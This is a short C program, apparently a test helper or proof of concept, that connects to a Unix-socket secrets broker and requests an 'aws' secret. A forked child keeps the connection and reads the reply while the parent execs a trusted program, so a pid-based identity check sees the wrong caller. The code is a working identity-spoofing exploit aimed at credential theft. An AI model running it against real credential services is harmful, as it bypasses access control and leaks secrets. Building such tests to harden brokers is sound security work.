/* park: connect, leave the connection with a child, send a request, and become the trusted program.
 *
 * The descriptor of the parent is close-on-exec and gone after the exec; the child has its own and reads the answer.
 * Whoever looks at the connection afterwards finds the trusted program behind the pid that connected.
 *
 * usage: park SOCKET TRUSTED   (prints "parked" before the exec; the child prints what it is answered)
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(int count, char **words) {
    static const char request[] =
        "{\"type\":\"REQUEST\",\"action\":\"read\",\"service\":\"aws\",\"targets\":[\"secret\"]}\n";
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    if (count < 3) return 2;
    strncpy(address.sun_path, words[1], sizeof address.sun_path - 1);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (connect(fd, (struct sockaddr *)&address, sizeof address) != 0) return 1;
    if (send(fd, request, sizeof request - 1, MSG_NOSIGNAL) < 0) return 1;
    if (fork() == 0) {
        char answer[4096];
        ssize_t got = recv(fd, answer, sizeof answer - 1, 0);
        answer[got > 0 ? got : 0] = '\0';
        printf("answer %s", got > 0 ? answer : "none\n");
        return 0;
    }
    puts("parked");
    fflush(stdout);
    execl(words[2], words[2], words[1], "--late", (char *)NULL);
    return 1;
}
